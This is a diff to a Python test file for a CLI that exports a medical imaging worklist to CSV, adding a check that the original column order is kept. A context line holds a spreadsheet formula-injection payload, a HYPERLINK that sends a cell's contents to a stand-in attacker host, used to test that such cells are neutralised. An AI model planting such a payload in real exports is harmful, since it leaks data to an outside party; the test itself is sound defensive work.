@@ -82,3 +82,42 @@ def test_csv_cells_cannot_start_a_formula(hostile_worklist: list[str]):
     names = {row["source_name"] for row in rows}
     assert '\'=HYPERLINK("https://evil.example/?"&A1,"ok")' in names  # kept, neutralised
     assert "[/x]" in names
+
+
+#: ``--csv``'s columns as first released; spreadsheets and scripts may read them by position.
+FIRST_CSV_COLUMNS = [
+    "id",
+    "status",
+    "priority",
+    "priority_rank",
+    "probability",
+    "label",
+    "flags",
+    "reason",
+    "model_version",
+    "threshold",
+    "accession_number",
+    "patient_id",
+    "study_instance_uid",
+    "sop_instance_uid",
+    "source_name",
+    "archived_path",
+    "received_at",
+    "started_at",
+    "finished_at",
+    "reviewed_at",
+    "reviewed_by",
+    "review_decision",
+    "file_sha256",
+    "results",
+]
+
+
+def test_csv_keeps_its_first_columns_in_place_and_adds_new_ones_at_the_end(
+    hostile_worklist: list[str],
+):
+    result = CliRunner().invoke(app, ["worklist", "--csv", "--limit", "1"])
+    assert result.exit_code == 0, result.output
+    header = next(csv.reader(io.StringIO(result.stdout)))
+    assert header[: len(FIRST_CSV_COLUMNS)] == FIRST_CSV_COLUMNS
+    assert {"reason_detail", "source_kind"} <= set(header[len(FIRST_CSV_COLUMNS) :])
